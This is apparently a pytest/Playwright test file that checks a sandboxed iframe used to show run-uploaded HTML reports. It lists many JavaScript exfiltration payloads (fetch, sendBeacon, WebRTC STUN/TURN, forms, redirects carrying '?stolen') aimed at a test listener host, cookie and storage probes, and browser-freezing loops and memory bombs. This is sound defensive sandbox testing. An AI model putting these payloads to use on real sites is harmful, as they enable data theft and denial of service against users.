"""HTML reports of runs that attack who looks at them: nothing leaves the browser, and the page stays usable.

A report is whatever a run uploads. Each attack has a port of its own on which the test listens.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Dialog, FrameLocator, Page, Response, expect

from tests.harness import Served, wait_until
from tests.longer import beyond
from tests.pages.browser import Faults, KeptBrowser, open_pages, other_browser
from tests.pages.ears import Ears, listening
from tests.pages.lab import Lab, upload
from tests.pages.media import image, run_with

pytestmark = pytest.mark.check

#: What a report runs to reach `{host}`: they leave its document where it is.
QUIET = {
    "fetch": "fetch('http://{host}/', {mode: 'no-cors', keepalive: true})",
    "request": "const x = new XMLHttpRequest(); x.open('GET', 'http://{host}/'); x.send()",
    "beacon": "navigator.sendBeacon('http://{host}/', 'x')",
    "websocket": "new WebSocket('ws://{host}/')",
    "events": "new EventSource('http://{host}/')",
    "transport": "new WebTransport('https://{host}/')",
    "picture": "new Image().src = 'http://{host}/'",
    "script": "add('script', {src: 'http://{host}/'})",
    "module": "import('http://{host}/')",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('http://{host}/', {mode: 'no-cors'})`])))",
    "style": "add('style', {textContent: '@import \"http://{host}/\"'})",
    "background": "document.body.style.background = 'url(http://{host}/)'",
    "font": "new FontFace('x', 'url(http://{host}/)').load()",
    "sound": "new Audio('http://{host}/').load()",
    "prefetch": "add('link', {rel: 'prefetch', href: 'http://{host}/'})",
    "preload": "add('link', {rel: 'preload', as: 'script', href: 'http://{host}/'})",
    "preconnect": "add('link', {rel: 'preconnect', href: 'http://{host}/'})",
    "icon": "add('link', {rel: 'icon', href: 'http://{host}/'})",
    "object": "add('object', {data: 'http://{host}/'})",
    "frame": "add('iframe', {src: 'http://{host}/'})",
    "frame of a text": "add('iframe', {srcdoc: '<img src=\"http://{host}/\">'})",
    "frame that leaves": "add('iframe', {}).contentWindow.location = 'http://{host}/'",
    "stun": "connect({urls: 'stun:{host}'})",
    "turn": "connect({urls: 'turn:{host}', username: 'a', credential: 'b'})",
    "turn by TCP": "connect({urls: 'turn:{host}?transport=tcp', username: 'a', credential: 'b'})",
    "window": "open('http://{host}/')",
    "link in a new tab": "add('a', {href: 'http://{host}/', target: '_blank'}).click()",
    "link of the page": "add('a', {href: 'http://{host}/', target: '_top'}).click()",
    "ping": "add('a', {href: '#here', ping: 'http://{host}/'}).click()",
    "form": "add('form', {action: 'http://{host}/', method: 'POST'}).submit()",
    "form of the page": "add('form', {action: 'http://{host}/', target: '_top'}).submit()",
    "page": "top.location = 'http://{host}/'",
}
#: What takes the report's own document elsewhere, with what it knows in the address.
LEAVING = {
    "address": "location = 'http://{host}/?stolen'",
    "refresh": "document.head.innerHTML = '<meta http-equiv=refresh content=\"0; url=http://{host}/\">'",
    "link": "add('a', {href: 'http://{host}/'}).click()",
    "download": "add('a', {href: 'http://{host}/', download: 'x'}).click()",
    "base": "add('base', {href: 'http://{host}/'}); add('a', {href: '/x'}).click()",
}
#: What the test sends itself.
OURS = {"http", "webrtc"}
_TOOLS = """
const add = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields));
async function connect(server) {
  const peer = new RTCPeerConnection({iceServers: [server]});
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
}
"""


@pytest.fixture
def browser(kept_browser: KeptBrowser) -> Iterator[Browser]:
    """One that keeps a report apart from the page that shows it.

    It ends with the test, and with it the processes of reports: the browser may give one that is kept busy to the next.
    """
    with other_browser(kept_browser.running()) as running:
        yield running


@pytest.fixture
def ears() -> Iterator[Ears]:
    with listening() as listener:
        yield listener


@pytest.fixture(autouse=True)
def expected(faults: Faults) -> None:
    """What the browser says of attacks that it stops."""
    faults.allow(r"^(console|error|foreign)")


def open_report(page: Page, server: Served, lab: Lab, script: str) -> FrameLocator:
    """The frame of an HTML report that runs a script, and says "done" when its first turn is over."""
    said = "document.body.append('done ' + String(window.said ?? ''))"
    html = f"<!doctype html><title>Report</title><body><script>{_TOOLS}{script};\nsetTimeout(() => {said}, 50)</script>"
    url = upload(server, "hostile/report.html", html.encode())
    _, address = run_with(server, lab, image("pages", "report", url))
    page.goto(f"{address}/images")
    page.get_by_role("button", name="Show the report").click()
    return page.frame_locator("iframe[title='pages / report']")


def close(page: Page) -> None:
    """Close the report by the mouse, as a person does. `Locator.click` would wait for the report's navigations."""
    box = page.get_by_role("button", name="Close", exact=True).bounding_box()
    assert box is not None
    page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    expect(page.get_by_role("dialog")).to_have_count(0)


def wait_until_left(page: Page) -> None:
    """Wait until the report's document is gone, and the browser shows an error in its place."""

    def has_left() -> bool:
        page.wait_for_timeout(20)
        return page.frames[-1].url.startswith("chrome-error:")

    wait_until(has_left)


def tried(attacks: dict[str, str], ears: Ears) -> str:
    """A script that tries each attack, whatever comes of the others."""
    codes = [code.replace("{host}", ears.host(name)) for name, code in attacks.items()]
    return "".join(f"try {{ (() => {{ {code} }})() }} catch {{}}\n" for code in codes)


def reach(page: Page, ears: Ears) -> None:
    """Wait until what the test itself sends was heard, by HTTP and by WebRTC: what came before was heard, too."""
    page.context.request.get(f"http://{ears.host('http')}/")
    page.evaluate(f"() => {{ {_TOOLS} return connect({{urls: 'stun:{ears.host('webrtc')}'}}); }}")
    wait_until(lambda: ears.heard >= OURS)


def test_a_report_reaches_no_host(page: Page, server: Served, lab: Lab, ears: Ears) -> None:
    frame = open_report(page, server, lab, tried(QUIET, ears))
    expect(frame.get_by_text("done")).to_be_visible()
    reach(page, ears)
    assert ears.heard == OURS
    assert open_pages(page) == [page]


@pytest.mark.parametrize("way", beyond(["address", "refresh", "link"], LEAVING))
def test_a_report_that_leaves_connects_to_nobody(page: Page, server: Served, lab: Lab, ears: Ears, way: str) -> None:
    code = LEAVING[way].replace("{host}", ears.host(way))
    open_report(page, server, lab, f"setTimeout(() => {{ {code} }}, 100)")
    wait_until_left(page)
    reach(page, ears)
    assert ears.heard == OURS
    close(page)


def test_a_report_asks_this_server_for_nothing(page: Page, server: Served, lab: Lab) -> None:
    asked: list[str] = []

    def note(response: Response) -> None:
        asked.append(response.url)

    page.on("response", note)
    script = "for (const way of ['script', 'img']) add(way, {src: '/data/projects.json?stolen'}); location = '/?stolen'"
    open_report(page, server, lab, script)
    wait_until_left(page)
    assert not [url for url in asked if "stolen" in url]


def test_a_report_has_no_part_in_the_session(page: Page, server: Served, lab: Lab) -> None:
    tries = {
        "origin": "origin",
        "cookie": "document.cookie",
        "storage": "localStorage.length",
        "databases": "indexedDB.open('x')",
        "workers": "navigator.serviceWorker",
        "page": "top.document.title",
        "address": "top.location.href",
        "asked": "[alert(1), confirm(1), prompt(1), print()].join()",
    }
    script = f"""
    window.said = '';
    for (const [name, code] of Object.entries({json.dumps(tries)})) {{
      try {{ said += name + '=' + eval(code) + ';' }} catch {{ said += name + ' refused;' }}
    }}"""
    dialogs: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    frame = open_report(page, server, lab, script)
    refused = "".join(f"{name} refused;" for name in ("cookie", "storage", "databases", "workers", "page", "address"))
    expect(frame.get_by_text("done")).to_have_text(f"done origin=null;{refused}asked=,false,,;")
    assert dialogs == []


#: What would make a report hard to close.
CLINGING = {
    "loop": "setTimeout(() => { for (;;); })",
    "memory": "setTimeout(() => { for (const all = [];;) all.push(new Uint8Array(2 ** 26).fill(1)); })",
    "elements": "setTimeout(() => { for (;;) document.body.append(document.createElement('p')); })",
    "leaving": "onpagehide = onunload = () => { for (;;); }",
    "history": "setInterval(() => location.hash = Math.random(), 1)",
    "focus": "add('input', {id: 'field'}); setInterval(() => field.focus(), 1)",
}


@pytest.mark.parametrize("way", beyond(["loop", "leaving", "history"], CLINGING))
def test_a_report_can_be_closed_whatever_it_does(page: Page, server: Served, lab: Lab, way: str) -> None:
    open_report(page, server, lab, CLINGING[way])
    expect(page.locator("iframe")).to_be_visible()
    address = page.url
    assert page.evaluate("document.title") == "made – Images"
    assert page.url == address
    close(page)
    expect(page.locator("iframe")).to_have_count(0)
    expect(page).to_have_title("made – Images")


@pytest.mark.parametrize("target", beyond(["parent"], ["parent", "top"]))
def test_a_report_that_floods_the_page_with_messages_is_closed(
    page: Page, server: Served, lab: Lab, target: str
) -> None:
    send = f"for (let n = 0; n < 1000; n++) {target}.postMessage({{kind: 'drawn', id: n}}, '*')"
    open_report(page, server, lab, f"setInterval(() => {{ {send} }})")
    expect(page.get_by_text("This report was closed")).to_be_visible()
    expect(page.locator("iframe")).to_have_count(0)
    close(page)


def test_forged_messages_change_nothing(page: Page, server: Served, lab: Lab) -> None:
    messages = "'x'.repeat(2 ** 24), null, [[[]]], new Map([[1, {}]]), new ArrayBuffer(9)"
    send = f"for (const one of [{messages}]) for (const to of [parent, top, window]) to.postMessage(one, '*')"
    frame = open_report(page, server, lab, send)
    expect(frame.get_by_text("done")).to_be_visible()
    expect(page.get_by_text("This report was closed")).to_have_count(0)
    close(page)


def test_a_page_says_that_a_report_is_no_part_of_it(page: Page, server: Served, lab: Lab) -> None:
    frame = open_report(page, server, lab, "add('form', {innerHTML: '<h1>Sign in</h1><input type=password>'})")
    expect(frame.get_by_role("heading", name="Sign in")).to_be_visible()
    expect(page.get_by_text("A run made this page. Type no password into it.")).to_be_visible()


def test_each_iteration_shows_its_own_report(page: Page, server: Served, lab: Lab) -> None:
    reports = [upload(server, f"reports/{n}.html", f"<p>report {n}</p>".encode()) for n in (1, 2)]
    _, address = run_with(server, lab, *(image("pages", "report", url, n) for n, url in enumerate(reports)))
    page.goto(f"{address}/images")
    page.get_by_role("button", name="Show the report").click()
    frame: Any = page.frame_locator("iframe")
    expect(frame.get_by_text("report 2")).to_be_visible()
    page.get_by_role("dialog").get_by_role("button", name="Iteration before").click()
    expect(frame.get_by_text("report 1")).to_be_visible()
